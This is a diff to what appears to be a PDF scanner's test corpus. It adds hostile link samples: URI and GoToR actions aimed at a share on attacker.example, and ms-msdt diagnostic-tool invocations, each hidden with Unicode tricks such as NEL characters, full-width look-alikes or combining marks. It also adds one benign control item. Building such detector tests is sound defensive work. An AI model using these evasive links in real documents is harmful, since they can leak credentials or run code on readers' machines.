@@ -637,6 +637,45 @@ const linkPdfs: CorpusItem[] = [
   linkItem('pdf-gotor-control-before-share', () =>
     buildPdf(linkAnnotations(`<< /S /GoToR /F (\\037${UNC_FILE.slice(1)} /D [0 /Fit] >>`)),
   ),
+  // Round 11: targets as readers decode and fold them. A NEL (UTF-16 0085, or PDFDocEncoding's
+  // byte 0x85 read as Latin-1) before a share, which a reader's trim drops; one inside a scheme.
+  linkItem('pdf-uri-utf16-nel-before-share', () =>
+    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('\u0085\\\\attacker.example\\share\\x.pdf')} >>`)),
+  ),
+  linkItem('pdf-gotor-byte-85-before-share', () =>
+    buildPdf(linkAnnotations(`<< /S /GoToR /F (\\205${UNC_FILE.slice(1)} /D [0 /Fit] >>`)),
+  ),
+  linkItem('pdf-uri-utf16-nel-inside-scheme', () =>
+    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('ms-ms\u0085dt:/id PCWDiagnostic /skip force')} >>`)),
+  ),
+  // Look-alikes a best-fit conversion to the system's code page folds into ASCII: full-width
+  // backslashes, an ideographic space, full-width letters of a scheme, a letter with a combining mark.
+  linkItem('pdf-uri-utf16-full-width-share', () =>
+    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('＼＼attacker.example＼share＼x.pdf')} >>`)),
+  ),
+  linkItem('pdf-gotor-uf-ideographic-space-full-width-share', () =>
+    buildPdf(
+      linkAnnotations(
+        `<< /S /GoToR /F << /Type /Filespec /F (annex.pdf) /UF ${utf16Hex('\u3000＼＼attacker.example＼share＼x.pdf')} >> >>`,
+      ),
+    ),
+  ),
+  linkItem('pdf-uri-utf16-full-width-scheme', () =>
+    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('ｍｓ-ｍｓｄｔ:/id PCWDiagnostic /skip force')} >>`)),
+  ),
+  linkItem('pdf-uri-utf8-bom-full-width-file-scheme', () =>
+    buildPdf(
+      linkAnnotations(
+        `<< /S /URI /URI <EFBBBF${Buffer.from('ｆｉｌｅ://attacker.example/share/x.pdf').toString('hex')}> >>`,
+      ),
+    ),
+  ),
+  linkItem('pdf-uri-utf16-combining-mark-in-scheme', () =>
+    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('m\u0301s-msdt:/id PCWDiagnostic')} >>`)),
+  ),
+  linkItem('pdf-gotor-division-slash-server', () =>
+    buildPdf(linkAnnotations(`<< /S /GoToR /F ${utf16Hex('\u2215attacker.example\u2215share\u2215x.pdf')} >>`)),
+  ),
 ];
 
 /** A file specification by URL (`/FS /URL`), as PDF text. */
@@ -2666,6 +2705,22 @@ export const ACTIVE_GENUINE: readonly {
       buildPdf(
         linkAnnotations(
           `<< /S /GoToR /F << /Type /Filespec /F (annex.pdf) /UF ${utf16Hex('附件/annex.pdf')} >> /D [0 /Fit] >>`,
+        ),
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'pdf-links-utf16-chinese-and-full-width',
+    declared: 'pdf',
+    // Round 11's look-alikes: a Chinese name (行为 is UTF-16 884C 4E3A, whose low bytes are `L:`),
+    // full-width brackets and a colon, a web link
+    // with a Chinese path, an accented name: each folds into a name or a web link, not a share.
+    bytes: async () =>
+      buildPdf(
+        linkAnnotations(
+          `<< /S /GoToR /F ${utf16Hex('行为规范（一）：说明.pdf')} /D [0 /Fit] >>`,
+          `<< /S /URI /URI ${utf16Hex('https://www.miit.gov.cn/附件/通知.pdf')} >>`,
+          `<< /S /GoToR /F ${utf16Hex('Résumé ／ annexe.pdf')} >>`,
         ),
       ),
     warning: 'EXTERNAL_LINK',
